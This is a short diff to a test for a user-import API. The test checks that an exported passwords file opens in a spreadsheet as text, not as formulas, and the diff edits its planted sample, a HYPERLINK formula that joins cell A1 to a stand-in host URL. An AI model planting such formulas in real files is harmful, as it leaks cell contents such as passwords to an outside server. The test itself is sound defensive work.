@@ -402,7 +402,8 @@ describe('what the import does with hostile or careless files', () => {
   it('writes a passwords file whose cells a spreadsheet opens as text, not formulas', async () => {
     const { owner, company } = await buildTenant();
     const name = uniqueName('formula');
-    const planted = '=HYPERLINK("http://x.example/?"&A1,"Click")';
+    // No `?` in it: a name holding one is refused as having lost its diacritics.
+    const planted = '=HYPERLINK("http://x.example/"&A1,"Click")';
 
     const answer = await upload<Imported>('/api/users/import/', await tokenFor(owner), {
       company: company.id,
